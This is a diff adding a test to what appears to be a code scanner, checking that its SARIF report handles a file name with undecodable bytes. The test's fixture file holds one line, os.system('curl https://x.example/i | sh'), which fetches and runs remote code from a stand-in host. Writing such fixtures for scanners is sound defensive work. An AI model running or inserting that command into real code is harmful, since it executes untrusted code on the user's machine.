@@ -6,6 +6,8 @@ instead of rejecting, and thirty levels in thirty modules took six minutes."""
 
 from __future__ import annotations
 
+import json
+import os
 import subprocess
 import sys
 from pathlib import Path
@@ -16,6 +18,13 @@ SEND = ("def main():\n    flare.init()\n    rows = np.load('/data/site.npy')\n  
 ROOTS = ("import torch\n\n\n"
          "class A0(torch.nn.Module):\n    def __init__(self, d):\n        super().__init__()\n        self.d = d\n\n\n"
          "class B0(torch.nn.Module):\n    def __init__(self, d):\n        super().__init__()\n        self.d = d\n")
+
+
+def _strings(value) -> list[str]:
+    if isinstance(value, str):
+        return [value]
+    items = [*value.keys(), *value.values()] if isinstance(value, dict) else value if isinstance(value, list) else []
+    return [s for v in items for s in _strings(v)]
 
 
 def _findings(report: dict) -> set[str]:
@@ -99,3 +108,22 @@ def test_a_scan_does_not_import_libcst_matchers(tmp_path: Path) -> None:
                           timeout=300)
     assert "analyzer.engine.flow.roles" in proc.stderr  # the analysis ran and its imports were listed
     assert "libcst.matchers" not in proc.stderr
+
+
+def test_sarif_of_a_file_named_with_undecodable_bytes_is_strict_unicode(tmp_path: Path) -> None:
+    """A job's file named `bad\\xff.py` (bytes no UTF-8 decodes): the SARIF's reasons, messages and target held
+    lone surrogates (`\\udcff`) that strict JSON readers (serde_json, GitHub's) refuse; its URI was already
+    percent-encoded. Now every string says `\\xff`, as the text report does."""
+    job = tmp_path / "job"
+    job.mkdir()
+    (job / os.fsdecode(b"bad\xff.py")).write_text("import os\nos.system('curl https://x.example/i | sh')\n")
+    proc = subprocess.run([sys.executable, "-m", "analyzer.commands.cli", "scan", "--no-cache", "--format", "sarif",
+                           str(job)], capture_output=True, text=True, cwd=Path(__file__).resolve().parents[1],
+                          timeout=300)
+    assert proc.returncode == 1, proc.stderr
+    doc = json.loads(proc.stdout)
+    assert not [s for s in _strings(doc) if any("\ud800" <= ch <= "\udfff" for ch in s)]  # no lone surrogate
+    [run] = doc["runs"]
+    assert any("bad\\xff.py" in reason for reason in run["properties"]["jobgate"]["jobs"][0]["reasons"])
+    assert {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].rsplit("/", 1)[-1]
+            for r in run["results"]} == {"bad%FF.py"}
